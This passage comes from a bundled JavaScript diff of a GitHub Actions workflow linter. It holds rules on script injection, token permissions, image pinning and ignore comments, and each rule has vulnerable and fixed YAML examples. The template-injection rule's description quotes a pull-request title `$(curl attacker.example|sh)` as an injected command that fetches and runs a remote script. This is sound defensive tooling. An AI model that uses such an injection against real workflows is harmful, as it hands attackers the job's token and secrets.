+    return entry && /^[A-Za-z_]\w*$/.test(entry.name) ? { name: entry.name, isSet: true } : null;
+}
+/** `github.event.pull_request.title` → `PULL_REQUEST_TITLE`; names that begin with `GITHUB_` are the runner's own. */
+function nameFor(segments) {
+    const words = segments[0] === "github" ? segments.slice(segments[1] === "event" ? 2 : 1) : segments;
+    const name = words
+        .filter((word) => word !== "*")
+        .join("_")
+        .replace(/\W/g, "_")
+        .toUpperCase();
+    return /^[A-Z_]/.test(name) && !/^(?:GITHUB|RUNNER|ACTIONS)_/.test(name) && name !== "PATH" ? name : `VALUE_${name}`;
+}
+function declareVariable(step, name, text) {
+    const block = step.env?.map;
+    const isFlow = block ? block.flow : step.map.flow;
+    const isPlain = !isFlow && !/: |\s#|["\n]/.test(text);
+    const after = step.map.entry("run") ?? step.map.entry("with");
+    return setIn(step.map, "env", name, isPlain ? text : JSON.stringify(text), after);
+}
+// ---- the edit ------------------------------------------------------------------------------------------------------
+/** Writes the replacement in the style of the scalar, so that its value holds just that text. */
+function replaceInScalar(scalar, { start, end, text }) {
+    const span = scalar.spanOf(start, end);
+    if (scalar.style === "double")
+        return { ...span, text: JSON.stringify(text).slice(1, -1) };
+    if (scalar.style === "single")
+        return { ...span, text: text.replaceAll("'", "''") };
+    return { ...span, text };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/code-inputs.js
+/**
+ * Inputs of well-known actions that are code: what is expanded into them is run.
+ *
+ * By action in lower case; the language decides how a value can be handed over without being expanded.
+ */
+const CODE_INPUTS = new Map([
+    ["8398a7/action-slack", ["custom_payload"]],
+    ["actions/github-script", ["script"]],
+    ["addnab/docker-run-action", ["run", "options"]],
+    ["amadevus/pwsh-script", ["script"]],
+    ["appleboy/ssh-action", ["script"]],
+    ["azure/cli", ["inlinescript"]],
+    ["azure/powershell", ["inlinescript"]],
+    ["cardinalby/export-env-action", ["envfile"]],
+    ["cardinalby/js-eval-action", ["expression"]],
+    ["cypress-io/github-action", ["command", "install-command", "build", "start"]],
+    ["devorbitus/yq-action-output", ["cmd"]],
+    ["docker/bake-action", ["set"]],
+    ["gautamkrishnar/blog-post-workflow", ["item_exec"]],
+    ["jannekem/run-python-script-action", ["script"]],
+    ["mikefarah/yq", ["cmd"]],
+    ["nick-fields/retry", ["command", "on_retry_command"]],
+    ["nickcharlton/diff-check", ["command"]],
+    ["reactivecircus/android-emulator-runner", ["script"]],
+    ["uraimo/run-on-arch-action", ["run", "install"]],
+    ["vmactions/freebsd-vm", ["run", "prepare"]],
+]);
+/** The inputs of an action that are code, in lower case. `name` is `owner/repo[/path]` in lower case. */
+function codeInputsOf(name) {
+    return CODE_INPUTS.get(name) ?? [];
+}
+/** The language of an action's code inputs, where a value can be read from the environment in it. */
+function code_inputs_languageOf(name) {
+    return name === "actions/github-script" ? "javascript" : "unknown";
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/event-contexts.js
+const PULL_REQUESTS = ["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"];
+/** Which events fill an object of the payload; others leave it null. */
+const SET_BY = new Map([
+    ["github.head_ref", ["pull_request", "pull_request_target"]],
+    ["github.base_ref", ["pull_request", "pull_request_target"]],
+    ["github.event.pull_request", PULL_REQUESTS],
+    ["github.event.review", ["pull_request_review"]],
+    ["github.event.comment", ["issue_comment", "pull_request_review_comment", "discussion_comment", "commit_comment"]],
+    ["github.event.issue", ["issues", "issue_comment"]],
+    ["github.event.discussion", ["discussion", "discussion_comment"]],
+    ["github.event.workflow_run", ["workflow_run"]],
+    ["github.event.pages", ["gollum"]],
+    ["github.event.forkee", ["fork"]],
+    ["github.event.merge_group", ["merge_group"]],
+    ["github.event.client_payload", ["repository_dispatch"]],
+]);
+/** May one of the events that start a step's workflow set this context? True where that can't be known. */
+function isSetBy(source, { owner }) {
+    const path = source.split(".");
+    const events = SET_BY.get(path.slice(0, 2).join(".")) ?? SET_BY.get(path.slice(0, 3).join("."));
+    if (!events || owner.kind === "composite")
+        return true;
+    const { triggers } = owner.workflow;
+    return triggers.length === 0 || triggers.some(({ event }) => event === "workflow_call" || events.includes(event));
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/contexts.js
+/** Contexts outside `github.event` whose text is the platform's own, or a name too narrow to break out of a script. */
+const FIXED_GITHUB = new Set([
+    "action_path",
+    "action_status",
+    "actor",
+    "actor_id",
+    "api_url",
+    "env",
+    "event_name",
+    "event_path",
+    "graphql_url",
+    "job",
+    "path",
+    "ref_protected",
+    "ref_type",
+    "repository",
+    "repository_id",
+    "repository_owner",
+    "repository_owner_id",
+    "repositoryurl",
+    "retention_days",
+    "run_attempt",
+    "run_id",
+    "run_number",
+    "secret_source",
+    "server_url",
+    "sha",
+    "step_summary",
+    "token",
+    "triggering_actor",
+    "workflow_sha",
+    "workspace",
+]);
+/** Last words of a payload's path that are numbers, dates, hashes, logins, flags or words from a closed list. */
+const FIXED_FIELDS = new Set([
+    "+1",
+    "-1",
+    "active_lock_reason",
+    "additions",
+    "after",
+    "archived",
+    "author_association",
+    "auto_merge",
+    "before",
+    "changed_files",
+    "color",
+    "comments",
+    "commits",
+    "conclusion",
+    "deleted",
+    "deletions",
+    "disabled",
+    "distinct",
+    "draft",
+    "forced",
+    "fork",
+    "forks",
+    "full_name",
+    "gravatar_id",
+    "id",
+    "is_template",
+    "line",
+    "locked",
+    "login",
+    "maintainer_can_modify",
+    "mergeable",
+    "mergeable_state",
+    "merged",
+    "node_id",
+    "number",
+    "open_issues",
+    "original_line",
+    "original_position",
+    "position",
+    "prerelease",
+    "private",
+    "rebaseable",
+    "review_comments",
+    "run_attempt",
+    "run_number",
+    "sha",
+    "side",
+    "site_admin",
+    "size",
+    "slug",
+    "start_line",
+    "state",
+    "state_reason",
+    "status",
+    "timestamp",
+    "topics",
+    "type",
+    "user_view_type",
+    "visibility",
+    "watchers",
+    "workflow_id",
+]);
+/** Fields of the payload itself, beside its objects. */
+const FIXED_TOP = new Set([
+    "action",
+    "after",
+    "before",
+    "created",
+    "deleted",
+    "forced",
+    "number",
+    "ref_type",
+]);
+const FIXED_ENDINGS = ["_at", "_count", "_id", "_sha"];
+/** Objects whose addresses are made of logins, names of repositories, numbers and hashes alone. */
+const PLAIN_ADDRESSES = new Set([
+    "actor",
+    "author",
+    "check_run",
+    "comment",
+    "discussion",
+    "forkee",
+    "head_repository",
+    "issue",
+    "organization",
+    "owner",
+    "pull_request",
+    "repo",
+    "repository",
+    "review",
+    "sender",
+    "triggering_actor",
+    "user",
+    "workflow_run",
+]);
+/**
+ * Rates a context of `github.…`; undefined for one that is no `github` context.
+ *
+ * @param segments lower case, `*` for an index or a filter
+ * @see the webhook payloads of the events that trigger workflows; GitHub's guide "Script injections"
+ */
+function rateGithubContext(segments) {
+    if (segments[0] !== "github")
+        return undefined;
+    const field = segments[1];
+    if (field === undefined || field === "*")
+        return "arbitrary";
+    if (field !== "event")
+        return FIXED_GITHUB.has(field) ? "fixed" : "arbitrary";
+    return ratePayload(segments.slice(2));
+}
+function ratePayload(path) {
+    // Objects, when printed, print everything in them; `labels.*` is one, too.
+    const last = path.findLast((segment) => segment !== "*");
+    const first = path[0];
+    if (last === undefined || first === undefined)
+        return "arbitrary";
+    if (first === "inputs" || first === "client_payload")
+        return "arbitrary";
+    // `changes.title.from` holds the old title.
+    if (first === "changes")
+        return "arbitrary";
+    if (path.length === 1)
+        return FIXED_TOP.has(last) ? "fixed" : "arbitrary";
+    if (FIXED_FIELDS.has(last) || FIXED_ENDINGS.some((ending) => last.endsWith(ending)))
+        return "fixed";
+    if (last === "name")
+        return isRepositoryName(path) ? "fixed" : "arbitrary";
+    if (last === "url" || last.endsWith("_url") || last === "href")
+        return rateAddress(path);
+    return "arbitrary";
+}
+function isRepositoryName(path) {
+    const parent = path.at(-2);
+    return parent === "repository" || parent === "repo" || parent === "forkee" || parent === "head_repository";
+}
+function rateAddress(path) {
+    const parent = path.at(-2) ?? "";
+    return PLAIN_ADDRESSES.has(parent) || path.at(-3) === "_links" ? "fixed" : "structured";
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/rating.js
+
+
+
+
+const HARMLESS = { severity: "low", confidence: "high", persona: "pedantic" };
+/** An `env.X` that stands for another `env.X` is followed this far. */
+const MAX_ENV_HOPS = 5;
+/**
+ * Rates what an expression may expand to in a step: the worst of the contexts whose text reaches its result.
+ *
+ * The scale is zizmor's for `template-injection`, so that both tools speak of the same places; contexts that can't hold a
+ * character that breaks out (numbers, hashes, logins) are harmless here.
+ */
+function rateExpression(expression, step) {
+    return rate(expression, step, 0);
+}
+function rate(expression, step, hops) {
+    let worst = { ...HARMLESS, source: "", why: "expanded into code, which is safe only as long as its text is" };
+    for (const { segments } of dataflow(expression)) {
+        const rating = rateContext(segments, step, hops);
+        if (rating && isWorse(rating, worst))
+            worst = rating;
+    }
+    return worst;
+}
+function isWorse(a, b) {
+    if (a.persona !== b.persona)
+        return a.persona === "regular";
+    return (0,lib/* compareSeverity */.zK)(a.severity, b.severity) < 0 || (a.severity === b.severity && b.source === "");
+}
+function rateContext(segments, step, hops) {
+    const source = segments.join(".");
+    switch (segments[0]) {
+        case "github":
+            return rateGithub(segments, step, source);
+        case "inputs":
+            return rateInput(segments[1], step, source);
+        case "env":
+            return rateEnv(segments[1], step, source, hops);
+        case "matrix":
+            return rateMatrix(segments.slice(1), step, source);
+        case "secrets":
+            return undefined;
+        case "steps":
+        case "needs":
+        case "jobs":
+            return rateOutput(segments, source);
+        case "runner":
+            return undefined;
+        default:
+            return { severity: "info", confidence: "low", persona: "regular", source, why: "not fixed by this file" };
+    }
+}
+function rateGithub(segments, step, source) {
+    if (segments[1] === "event" && segments[2] === "inputs" && segments[3] !== undefined && segments[3] !== "*") {
+        return rateInput(segments[3], step, source);
+    }
+    const capability = rateGithubContext(segments);
+    if (capability === "fixed")
+        return undefined;
+    if (capability === "structured") {
+        return {
+            severity: "medium",
+            confidence: "high",
+            persona: "regular",
+            source,
+            why: "partly an attacker's own words",
+        };
+    }
+    return { severity: "high", confidence: "high", persona: "regular", source, why: "what an attacker may write" };
+}
+function rateInput(name, step, source) {
+    const declared = name === undefined ? [] : declarationsOf(step, name);
+    if (declared.length === 0) {
+        return {
+            severity: "low",
+            confidence: "low",
+            persona: "regular",
+            source,
+            why: "an input that this file doesn't declare",
+        };
+    }
+    const isText = declared.some((input) => input.type === "string");
+    if (!isText)
+        return { ...HARMLESS, source, why: `an input of type ${declared[0]?.type}` };
+    return { severity: "high", confidence: "high", persona: "regular", source, why: "whatever the caller passes" };
+}
+function declarationsOf(step, name) {
+    const { owner } = step;
+    const inputs = owner.kind === "composite"
+        ? owner.inputs
+        : ["workflow_call", "workflow_dispatch"].flatMap((event) => owner.workflow.trigger(event)?.inputs ?? []);
+    return inputs.filter((input) => input.name.toLowerCase() === name);
+}
+/** A variable is as bad as the expression that it was set from; one that isn't set here may be set by an earlier step. */
+function rateEnv(name, step, source, hops) {
+    const value = name === undefined ? undefined : step.variable(name)?.value;
+    if (!value) {
+        return {
+            severity: "low",
+            confidence: "high",
+            persona: "regular",
+            source,
+            why: "a variable that isn't set in this file",
+        };
+    }
+    const expressions = expressionsIn(value);
+    if (expressions.length === 0)
+        return { ...HARMLESS, source, why: "a variable with fixed text" };
+    let worst = {
+        severity: "low",
+        confidence: "high",
+        persona: "regular",
+        source,
+        why: "a variable set from an expression",
+    };
+    for (const { expression } of hops < MAX_ENV_HOPS ? expressions : []) {
+        const inner = expression && rate(expression, step, hops + 1);
+        if (inner?.persona === "regular" && isWorse(inner, worst))
+            worst = { ...inner, why: `${inner.why}, by way of \`${source}\`` };
+    }
+    return worst;
+}
+function rateMatrix(path, step, source) {
+    const matrix = step.owner.kind === "normal" ? step.owner.matrix : null;
+    if (!matrix)
+        return undefined;
+    const { values, isOpen } = matrix.valuesOf(path);
+    if (!isOpen && values.every((value) => expressionsIn(value).length === 0))
+        return undefined;
+    return {
+        severity: "medium",
+        confidence: "medium",
+        persona: "regular",
+        source,
+        why: "a matrix value that an expression fills",
+    };
+}
+const CLEAN_OUTCOMES = new Set(["conclusion", "outcome", "result"]);
+function rateOutput(segments, source) {
+    if (segments.length === 3 && CLEAN_OUTCOMES.has(segments[2]))
+        return undefined;
+    return { severity: "info", confidence: "low", persona: "regular", source, why: "what an earlier step or job wrote" };
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/injection/template-injection.js
+
+
+
+
+
+
+
+
+/* harmony default export */ const template_injection = (defineRule({
+    id: "template-injection",
+    category: "injection",
+    severity: "high",
+    isZizmor: true,
+    fixes: "both",
+    summary: "Text that others write is expanded into a script",
+    risk: "The runner pastes the text into the script before the shell reads it. A pull request titled `$(curl attacker.example|sh)` is then a command in your job, with its token and its secrets.",
+    mend: 'Hand the value over in `env:` and read the variable in the script, in double quotes: `echo "${TITLE}"`.',
+    sources: [
+        "https://docs.github.com/actions/concepts/security/script-injections",
+        "https://securitylab.github.com/resources/github-actions-untrusted-input/",
+    ],
+    examples: {
+        flagged: [
+            {
+                text: `on: pull_request_target
+permissions: {contents: write}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          set -e
+          echo "Title: \${{ github.event.pull_request.title }}"
+`,
+                at: [9],
+                severity: "high",
+                fixed: `on: pull_request_target
+permissions: {contents: write}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          set -e
+          echo "Title: \${PULL_REQUEST_TITLE}"
+        env:
+          PULL_REQUEST_TITLE: \${{ github.event.pull_request.title }}
+`,
+            },
+            {
+                text: `on: issues
+permissions: {}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo \${{ format('{0}', github.event.issue.body) }}
+`,
+                at: [7],
+                severity: "medium",
+            },
+            {
+                text: `on: issue_comment
+permissions: {contents: write}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/github-script@1234567890abcdef1234567890abcdef12345678
+        with:
+          script: |
+            core.info(\`\${{ github.event.comment.body }}\`)
+`,
+                at: [10],
+                fixed: `on: issue_comment
+permissions: {contents: write}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/github-script@1234567890abcdef1234567890abcdef12345678
+        with:
+          script: |
+            core.info(\`\${process.env.COMMENT_BODY}\`)
+        env:
+          COMMENT_BODY: \${{ github.event.comment.body }}
+`,
+            },
+            {
+                path: "act/action.yml",
+                text: `name: c
+description: c
+inputs:
+  name: {description: n}
+runs:
+  using: composite
+  steps:
+    - run: Write-Output "Hello \${{ inputs.name }}"
+      shell: pwsh
+`,
+                at: [8],
+                severity: "high",
+                fixed: `name: c
+description: c
+inputs:
+  name: {description: n}
+runs:
+  using: composite
+  steps:
+    - run: Write-Output "Hello \${env:INPUTS_NAME}"
+      env:
+        INPUTS_NAME: \${{ inputs.name }}
+      shell: pwsh
+`,
+            },
+            {
+                text: `on: push
+permissions: {contents: write}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo \${{ github.sha }}
+`,
+                at: [7],
+                persona: "pedantic",
+                severity: "low",
+            },
+        ],
+        silent: [
+            {
+                text: `on: pull_request_target
+permissions: {contents: write}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "$TITLE"
+        env:
+          TITLE: \${{ github.event.pull_request.title }}
+`,
+                because: "the shell gets the text as a variable's value and never reads it as code",
+            },
+            {
+                text: `on: pull_request_target
+permissions: {contents: write}
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          echo \${{ github.event.pull_request.title == 'x' }}
+          echo \${{ github.event.pull_request.number }} \${{ github.event.pull_request.head.sha }}
+          echo \${{ contains(github.event.pull_request.body, 'x') && 'yes' || 'no' }}
+`,
+                because: "a comparison gives `true` or `false`, and numbers and hashes hold nothing that a shell acts on",
+            },
+        ],
+    },
+    run(run, report) {
+        judge(run.scalar, run.shell, run.step, report);
+    },
+    uses({ uses, step }, report) {
+        if (!step || uses.target.kind !== "repository" || !step.with)
+            return;
+        const name = nameOf(uses.target);
+        for (const input of codeInputsOf(name)) {
+            const value = step.input(input)?.value;
+            if (value?.kind === "scalar")
+                judge(value, code_inputs_languageOf(name), step, report);
+        }
+    },
+}));
+const LANGUAGES = {
+    bash: "a shell script",
+    sh: "a shell script",
+    pwsh: "a PowerShell script",
+    powershell: "a PowerShell script",
+    cmd: "a batch script",
+    python: "a Python program",
+    javascript: "a JavaScript program",
+    unknown: "code",
+};
+function judge(scalar, shell, step, report) {
+    for (const embedded of expressionsIn(scalar)) {
+        const { expression } = embedded;
+        if (!expression)
+            continue;
+        const rating = rateExpression(expression, step);
+        if (rating.persona === "pedantic" && report.persona === "regular")
+            continue;
+        speak(embedded, rating, shell, step, report);
+    }
+}
+function speak(embedded, rating, shell, step, report) {
+    const subject = rating.source === "" ? "An expression" : `\`${rating.source}\``;
+    const cause = rating.source === "" ? `${subject} is` : `${subject} is ${rating.why}, and it is`;
+    const isNeverSet = rating.persona === "regular" && !isSetBy(rating.source, step);
+    const note = isNeverSet ? " (none of the workflow's events sets it)" : "";
+    report({ file: embedded.file, ...embedded.spanOf() }, `${cause} expanded into ${LANGUAGES[shell]}${note}`, {
+        severity: hasLittleToLose(step) ? (0,lib/* lowered */.DM)(rating.severity) : rating.severity,
+        confidence: isNeverSet ? "low" : rating.confidence,
+        persona: rating.persona,
+        fix: rating.source === "" ? null : handOverThroughEnv(embedded, shell, step),
+    });
+}
+/** The caller decides what a composite action's job holds. */
+function hasLittleToLose({ owner }) {
+    return owner.kind === "normal" && holdsNothing(holdingsOf(owner));
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/meta/suppression-without-reason.js
+
+/* harmony default export */ const suppression_without_reason = (defineRule({
+    id: "suppression-without-reason",
+    category: "meta",
+    severity: "low",
+    summary: "An ignore comment gives no reason",
+    risk: "Nobody can tell later whether the finding was judged or only silenced, so it is not silenced.",
+    mend: "Write why behind the bracket: `# trustchain: ignore[unpinned-uses] vendored mirror, updated by its own job`.",
+    examples: {
+        flagged: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  call:
+    uses: octo-org/workflows/.github/workflows/build.yml@v1 # trustchain: ignore[unpinned-uses]
+`,
+                at: [5],
+            },
+        ],
+        silent: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  call:
+    uses: octo-org/workflows/.github/workflows/build.yml@v1 # trustchain: ignore[unpinned-uses] our own, tags are protected
+`,
+                because: "the reason is there",
+            },
+        ],
+    },
+}));
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/meta/unreadable-file.js
+
+/* harmony default export */ const unreadable_file = (defineRule({
+    id: "unreadable-file",
+    category: "meta",
+    severity: "high",
+    summary: "A file can't be read as GitHub would read it",
+    risk: "What can't be read can't be checked: anything may stand in it. GitHub may refuse the file, or read it otherwise than its author meant.",
+    mend: "Mend the file at the place that is named. It is UTF-8 text and one YAML 1.2 document, with each key once in its mapping and without merge keys (`<<`).",
+    sources: [
+        "https://yaml.org/spec/1.2.2/",
+        "https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax",
+    ],
+    examples: {
+        flagged: [
+            { text: "on: push\njobs:\n  a: [\n", at: [4] },
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  a: &a
+    runs-on: ubuntu-latest
+    steps: [{run: make}]
+  b:
+    <<: *a
+`,
+                at: [8],
+            },
+            { text: "on: push\npermissions: {}\npermissions: read-all\njobs: {}\n", at: [3] },
+            { text: "# nothing but a comment\n", at: [1] },
+            { text: "- a\n- list\n", at: [1] },
+        ],
+        silent: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  a: &a
+    runs-on: ubuntu-latest
+    steps: [{run: make}]
+  b: *a
+`,
+                because: "GitHub reads anchors and aliases",
+            },
+        ],
+    },
+    repository(repository, report) {
+        const told = new Map();
+        for (const { file } of repository.unreadable)
+            told.set(file.path, (told.get(file.path) ?? 0) + 1);
+        for (const { file, start, end, reason } of repository.unreadable) {
+            const count = told.get(file.path);
+            if (count === undefined)
+                continue;
+            told.delete(file.path);
+            const more = count > 1 ? ` (and ${count - 1} more of its kind)` : "";
+            report({ file, start, end }, `This file can't be read: ${reason}${more}`);
+        }
+    },
+}));
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/meta/unused-suppression.js
+
+/* harmony default export */ const unused_suppression = (defineRule({
+    id: "unused-suppression",
+    category: "meta",
+    severity: "low",
+    persona: "pedantic",
+    summary: "An ignore comment silences nothing",
+    risk: "It would silence a finding that somebody adds to this line one day, without anyone having judged it.",
+    mend: "Remove the comment, or mend the rule's id in it.",
+    examples: {
+        flagged: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  call:
+    # trustchain: ignore[unpinned-uses] was on a tag once
+    uses: octo-org/workflows/.github/workflows/build.yml@1234567890abcdef1234567890abcdef12345678
+`,
+                at: [5],
+                persona: "pedantic",
+            },
+        ],
+        silent: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  call:
+    # trustchain: ignore[unpinned-uses] our own, tags are protected
+    uses: octo-org/workflows/.github/workflows/build.yml@v1
+`,
+                persona: "pedantic",
+                because: "it silences a finding",
+            },
+        ],
+    },
+}));
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/trust/token-use.js
+
+/** Actions that use the token for nothing but to read the repository, whatever their inputs are. */
+const READERS = new Set([
+    "actions/cache",
+    "actions/cache/restore",
+    "actions/cache/save",
+    "actions/checkout",
+    "actions/download-artifact",
+    "actions/setup-dotnet",
+    "actions/setup-go",
+    "actions/setup-java",
+    "actions/setup-node",
+    "actions/setup-python",
+    "actions/upload-artifact",
+]);
+const TOKEN = /\bgithub\s*\.\s*token\b|github_token|gh_token|\[\s*'token'\s*\]/i;
+/**
+ * Is `contents: read` surely enough for a job's token? Only where every step is known, nothing in the job names the
+ * token, and no script finds the credential that a checkout leaves behind.
+ */
+function needsOnlyToRead(job) {
+    if (job.kind === "reusable")
+        return false;
+    let namesToken = false;
+    const look = (text) => {
+        namesToken ||= TOKEN.test(text);
+    };
+    visitScalars(job.map, (scalar) => look(scalar.value), new Set());
+    const workflowEnv = job.workflow.env?.entry.value;
+    if (workflowEnv)
+        visitScalars(workflowEnv, (scalar) => look(scalar.value), new Set());
+    return (!namesToken && job.steps.every(isReader) && !(leavesCredential(job.steps) && job.steps.some((step) => step.run)));
+}
+function isReader(step) {
+    if (step.run)
+        return true;
+    const { uses } = step;
+    return uses?.target.kind === "repository" && READERS.has(uses.text.split("@")[0]?.toLowerCase() ?? "");
+}
+function leavesCredential(steps) {
+    return steps.some((step) => {
+        const setting = step.input("persist-credentials")?.value;
+        const isOff = setting?.kind === "scalar" && setting.value === "false";
+        return step.uses?.is("actions/checkout") === true && !isOff;
+    });
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/permissions/excessive-permissions.js
+
+
+
+/** What an attacker can do with the scope when it may write; `medium` for scopes that aren't named. */
+const SCOPE_SEVERITY = {
+    actions: "high",
+    attestations: "high",
+    contents: "high",
+    deployments: "high",
+    "id-token": "high",
+    issues: "high",
+    models: "low",
+    packages: "high",
+    pages: "high",
+    "pull-requests": "high",
+    statuses: "low",
+};
+/* harmony default export */ const excessive_permissions = (defineRule({
+    id: "excessive-permissions",
+    category: "permissions",
+    severity: "medium",
+    isZizmor: true,
+    fixes: "safe",
+    summary: "A token may do more than its job needs",
+    risk: "Whatever gets into one step of the job can use the token: an action that was taken over, a dependency's install script, an expression that was expanded into a command. With write rights it changes code, releases and packages.",
+    mend: "Write `permissions: {}` at the top of the workflow, and give each job the scopes that it needs.",
+    sources: ["https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax#permissions"],
+    examples: {
+        flagged: [
+            {
+                text: `on: push
+permissions: write-all
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps: [{run: make}]
+  b:
+    runs-on: ubuntu-latest
+    steps: [{run: make}]
+`,
+                at: [2],
+                severity: "high",
+            },
+            {
+                text: `on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: make
+  release:
+    runs-on: ubuntu-latest
+    permissions:
+      contents: write
+    steps:
+      - run: make release
+`,
+                at: [3],
+                severity: "medium",
+                fixed: `on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    permissions:
+      contents: read
+    steps:
+      - run: make
+  release:
+    runs-on: ubuntu-latest
+    permissions:
+      contents: write
+    steps:
+      - run: make release
+`,
+            },
+            {
+                text: `on: push
+permissions:
+  contents: write
+  packages: read
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps: [{run: make}]
+  b:
+    runs-on: ubuntu-latest
+    permissions: read-all
+    steps: [{run: make}]
+`,
+                at: [3, 11],
+            },
+            {
+                text: `on: push
+permissions: write-all
+jobs:
+  only:
+    runs-on: ubuntu-latest
+    steps: [{run: make}]
+`,
+                at: [2],
+                severity: "high",
+                fixed: `on: push
+permissions: {contents: read}
+jobs:
+  only:
+    runs-on: ubuntu-latest
+    steps: [{run: make}]
+`,
+            },
+            {
+                text: `on: push
+permissions:
+  contents: write
+jobs:
+  only:
+    runs-on: ubuntu-latest
+    steps: [{run: make}]
+`,
+                at: [3],
+                persona: "pedantic",
+            },
+        ],
+        silent: [
+            {
+                text: `on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    permissions:
+      contents: read
+    steps:
+      - run: make
+  release:
+    runs-on: ubuntu-latest
+    permissions:
+      contents: write
+    steps:
+      - run: make release
+`,
+                because: "each job says what it needs",
+            },
+            {
+                text: `on: push
+permissions:
+  contents: write
+jobs:
+  only:
+    runs-on: ubuntu-latest
+    steps: [{run: make}]
+`,
+                because: "with one job the workflow's block is the job's",
+            },
+        ],
+    },
+    workflow(workflow, report) {
+        const { permissions } = workflow;
+        if (!permissions)
+            return;
+        const isIrrelevant = workflow.isReusableOnly || workflow.jobs.every((job) => job.permissions);
+        const persona = isIrrelevant ? "pedantic" : "regular";
+        for (const excess of excessOf(permissions)) {
+            const fix = excessive_permissions_fixOf(permissions, inheritingJobs(workflow));
+            report(excess.place, excess.message("every job of the workflow"), { severity: excess.severity, persona, fix });
+        }
+        if (permissions.kind !== "scopes")
+            return;
+        for (const { scope, level, entry } of permissions.grants) {
+            if (level !== "write")
+                continue;
+            const message = `Every job of the workflow that has no \`permissions\` of its own may write \`${scope}\``;
+            const severity = SCOPE_SEVERITY[scope] ?? "medium";
+            // With one job the workflow's block says what a job-level one would.
+            report(entry.key, message, { severity, persona: workflow.jobs.length === 1 ? "pedantic" : persona });
+        }
+    },
+    job(job, report) {
+        judgeJob(job, job.workflow.isReusableOnly ? "pedantic" : "regular", report);
+    },
+    // The caller decides what a called workflow's token may do, even where the caller is called itself.
+    reusableJob(job, report) {
+        judgeJob(job, "regular", report);
+    },
+}));
+function judgeJob(job, persona, report) {
+    const { permissions } = job;
+    if (permissions) {
+        for (const excess of excessOf(permissions)) {
+            report(excess.place, excess.message(`the job \`${job.id}\``), {
+                severity: excess.severity,
+                persona,
+                fix: excessive_permissions_fixOf(permissions, [job]),
+            });
+        }
+    }
+    else if (!job.workflow.permissions) {
+        const message = `Nothing limits the token of the job \`${job.id}\`: it has the repository's default rights`;
+        report(job.key, message, { confidence: "medium", persona, fix: addReadOnly(job) });
+    }
+}
+function excessOf(permissions) {
+    const place = permissions.entry.value;
+    if (permissions.kind === "write-all") {
+        return [{ place, severity: "high", message: (whose) => `The token of ${whose} may write everything` }];
+    }
+    if (permissions.kind === "read-all") {
+        return [
+            {
+                place,
+                severity: "medium",
+                message: (whose) => `The token of ${whose} may read everything, secret-scanning alerts and packages too`,
+            },
+        ];
+    }
+    return [];
+}
+function inheritingJobs(workflow) {
+    return workflow.jobs.filter((job) => !job.permissions);
+}
+function excessive_permissions_fixOf(permissions, jobs) {
+    if (permissions.kind === "scopes" || permissions.entry.alias || !jobs.every(needsOnlyToRead))
+        return null;
+    const edit = replaceNode(permissions.entry.value, "{contents: read}");
+    return { description: "leave only `contents: read`", safe: true, edits: [edit] };
+}
+/** Sure only where nothing in the job can use more; see `needsOnlyToRead`. */
+function addReadOnly(job) {
+    if (!needsOnlyToRead(job))
+        return null;
+    const before = job.map.entries[0];
+    const edit = before && insertEntry(job.map, "permissions", { contents: "read" }, before);
+    return edit ? { description: "give the job `contents: read` and nothing else", safe: true, edits: [edit] } : null;
+}
+
+;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/pinning/unpinned-images.js
+
+
+
+/* harmony default export */ const unpinned_images = (defineRule({
+    id: "unpinned-images",
+    category: "pinning",
+    severity: "high",
+    isZizmor: true,
+    summary: "A container image is not pinned to a digest",
+    risk: "The tag can be pushed again with another image at any time. What is in it then runs in your job, beside its secrets and its token.",
+    mend: "Name the digest, and keep the tag for readers: `node:22.1@sha256:…`.",
+    sources: ["https://docs.docker.com/reference/cli/docker/image/pull/#pull-an-image-by-digest-immutable-identifier"],
+    examples: {
+        flagged: [
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    container: node:latest
+    services:
+      db:
+        image: registry.example.com:5000/db
+    steps:
+      - uses: docker://alpine
+`,
+                at: [6, 9, 11],
+                severity: "high",
+            },
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    container: {image: node:22.1}
+    steps:
+      - uses: docker://alpine:3.20
+`,
+                at: [6, 8],
+                persona: "pedantic",
+                severity: "low",
+            },
+            {
+                text: `on: push
+permissions: {}
+jobs:
+  test:
+    strategy:
+      matrix:
